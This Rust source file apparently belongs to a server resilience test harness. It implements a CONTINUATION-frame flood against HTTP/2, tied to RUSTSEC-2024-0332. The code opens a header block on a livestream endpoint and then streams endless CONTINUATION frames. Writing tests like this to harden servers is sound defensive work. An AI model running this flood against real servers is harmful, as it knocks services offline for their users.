//! CONTINUATION flood (RUSTSEC-2024-0332): headers that never end.

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::frames::{CONTINUATION, HEADERS, frame};
use crate::link::LIVESTREAMS;

/// Bytes of each frame: a literal header, again and again.
const HEADER: &[u8] = b"\x00\x04flow\x0eabcdefghijklmn";

pub(super) struct ContinuationFlood;

impl Case for ContinuationFlood {
    fn name(&self) -> &'static str {
        "continuation-flood"
    }

    fn does(&self) -> &'static str {
        "sends headers in CONTINUATION frames without an end, a million in all"
    }

    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
        0
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        let mut begins = Vec::new();
        frame(&mut begins, HEADERS, 0, 1, &attacker.call_headers(&format!("{LIVESTREAMS}GetLivestream")));
        Box::pin(async move {
            hold_floods(attacker, &begins, |out, _| frame(out, CONTINUATION, 0, 1, &HEADER.repeat(64))).await
        })
    }
}
